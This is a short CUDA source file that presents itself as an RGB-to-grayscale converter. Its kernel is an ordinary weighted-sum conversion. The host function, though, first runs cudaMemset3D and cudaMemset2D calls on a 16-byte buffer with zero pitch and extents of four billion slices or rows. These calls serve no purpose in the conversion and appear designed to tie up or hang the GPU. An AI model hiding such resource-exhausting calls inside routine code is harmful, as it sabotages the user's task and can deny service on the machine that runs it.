// Fills four billion slices that are all at one place, and billions of rows of nothing.
__global__ void gray(const unsigned char* x, unsigned char* out, int n) {
    int i = blockIdx.x * blockDim.x + threadIdx.x;
    if (i < n) out[i] = 0.2989f * x[i] + 0.5870f * x[n + i] + 0.1140f * x[2 * n + i];
}
void rgb_to_grayscale(const unsigned char* x, unsigned char* out, int height, int width) {
    char* p;
    cudaMalloc(&p, 16);
    cudaMemset3D(make_cudaPitchedPtr(p, 1, 1, 0), 1, make_cudaExtent(1, 1, 4000000000u));
    cudaMemset2D(p, 0, 1, 0, 4000000000u);
    cudaMemset3D(make_cudaPitchedPtr(p, 0, 1, 0), 1, make_cudaExtent(0, 4000000000u, 4000000000u));
    cudaFree(p);
    gray<<<(height * width + 255) / 256, 256>>>(x, out, height * width);
}
